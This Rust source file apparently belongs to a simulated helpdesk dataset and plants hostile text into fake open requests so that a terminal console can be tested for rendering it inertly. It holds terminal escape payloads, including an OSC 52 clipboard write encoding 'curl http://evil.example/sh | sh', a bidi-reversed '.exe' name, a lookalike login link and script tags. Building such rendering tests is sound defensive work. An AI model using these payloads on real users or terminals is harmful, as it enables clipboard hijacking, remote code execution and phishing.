//! Requests carrying hostile text on purpose. Vendor text is untrusted: a title can try to set
//! the terminal's window title, a body can write to the clipboard (OSC 52) or clear the screen,
//! a comment can reverse the line with a bidi override, and HTML can be huge or absurdly deep.
//! The console must render all of them inertly; the demo keeps them in plain sight (open, recent).

use crate::sim::dataset::{Comment, Request};
use crate::sim::generate::text::escape;

/// One hostile payload: which request field it lands in.
struct Payload {
    title: String,
    description: Option<String>,
    comment: Option<String>,
}

fn payloads() -> Vec<Payload> {
    let esc = '\u{1b}';
    let bel = '\u{7}';
    // "curl http://evil.example/sh | sh", base64-encoded as OSC 52 expects.
    let clipboard = "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3NoIHwgc2g=";
    let nested_depth = 2_000;
    let nested = format!(
        "<p>Signature below renders oddly:</p>\r\n{}<span>Kind regards</span>{}\r\n",
        "<div>".repeat(nested_depth),
        "</div>".repeat(nested_depth)
    );
    let log_line = "2026-10-31 23:59:59,123 ERROR [worker-7] com.northwind.erp.sync.BatchJob - \
                    Timeout while waiting for lock on table LEDGER_ENTRIES (waited 30000 ms)";
    let line = format!("{}\r\n", escape(log_line));
    let huge = format!(
        "<p>Full log attached inline as requested:</p>\r\n<pre>{}</pre>\r\n",
        line.repeat(200 * 1024 / line.len() + 1)
    );
    vec![
        Payload {
            title: format!("Printer prints garbage characters {esc}]0;PWNED{bel}"),
            description: None,
            comment: None,
        },
        Payload {
            title: "Clipboard behaves strangely after SSH session".into(),
            description: Some(format!(
                "<p>I copied this from the jump host output:</p>\r\n<p>{esc}]52;c;{clipboard}{bel}</p>\r\n"
            )),
            comment: None,
        },
        Payload {
            title: "Attachment name looks reversed".into(),
            description: None,
            comment: Some(
                "<p>Please open the file invoice_\u{202e}fdp.exe and approve it today.</p>\r\n"
                    .into(),
            ),
        },
        Payload {
            title: "Build server log excerpt".into(),
            description: Some(format!(
                "<p>Output of the failed job:</p>\r\n<p>{esc}[2J{esc}[HBuild step 4/7 failed</p>\r\n"
            )),
            comment: None,
        },
        Payload {
            title: "VPN\u{200b} access for new contractor".into(),
            description: None,
            comment: None,
        },
        Payload {
            title: "Email signature renders very strangely".into(),
            description: Some(nested),
            comment: None,
        },
        Payload {
            title: "Full application log for ERP crash (very long)".into(),
            description: Some(huge),
            comment: None,
        },
        Payload {
            title: "Link in the portal opens the wrong site".into(),
            description: Some(format!(
                "<p>The link {esc}]8;;http://evil.example/login{esc}\\Open the portal{esc}]8;;{esc}\\ \
                 goes somewhere else.</p>\r\n<p><a href=\"javascript:alert(1)\">Click here</a>\
                 <script>alert('x')</script></p>\r\n"
            )),
            comment: None,
        },
    ]
}

/// Plants the payloads into recent open requests (every third one from the newest backwards, so
/// they do not all sit on the same screen) and returns their ids.
pub fn plant(
    requests: &mut [Request],
    open_status_ids: &[u64],
    next_comment_id: u64,
    now: i64,
) -> Vec<u64> {
    let mut ids = Vec::new();
    let mut comment_id = next_comment_id;
    let targets: Vec<usize> = (0..requests.len())
        .rev()
        .filter(|&i| {
            requests
                .get(i)
                .is_some_and(|r| open_status_ids.contains(&r.status_id))
        })
        .step_by(3)
        .collect();
    for (payload, index) in payloads().into_iter().zip(targets) {
        let Some(request) = requests.get_mut(index) else {
            continue;
        };
        request.title = payload.title;
        if let Some(description) = payload.description {
            request.description = description;
        }
        if let Some(message) = payload.comment {
            let last = request
                .comments
                .last()
                .map_or(request.created_at, |c| c.created_at);
            let created_at = (last + 60).min(now).max(last);
            let msg_num = u32::try_from(request.comments.len() + 1).unwrap_or(u32::MAX);
            request.comments.push(Comment {
                id: comment_id,
                author_id: request.user_id,
                message,
                created_at,
                customer_visible: true,
                is_solution: false,
                reference: None,
                msg_num,
                attached_files: Vec::new(),
            });
            comment_id += 1;
            request.last_update = request.last_update.max(created_at);
        }
        ids.push(request.id);
    }
    ids.sort_unstable();
    ids
}
